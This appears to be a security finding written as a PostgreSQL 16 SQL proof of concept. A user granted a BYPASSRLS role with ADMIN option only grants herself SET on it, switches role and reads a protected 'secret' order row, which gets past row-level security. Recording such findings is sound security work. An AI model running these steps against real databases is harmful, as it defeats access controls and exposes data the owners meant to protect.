-- finding: role-settable role warden
-- server: 16..
CREATE ROLE warden BYPASSRLS; GRANT order_users TO warden;
GRANT warden TO "alice@example.com" WITH ADMIN TRUE, INHERIT FALSE, SET FALSE;
-- leak as alice@example.com
GRANT warden TO "alice@example.com" WITH SET TRUE;
SET ROLE warden; SELECT item FROM shop.orders WHERE item = 'secret';
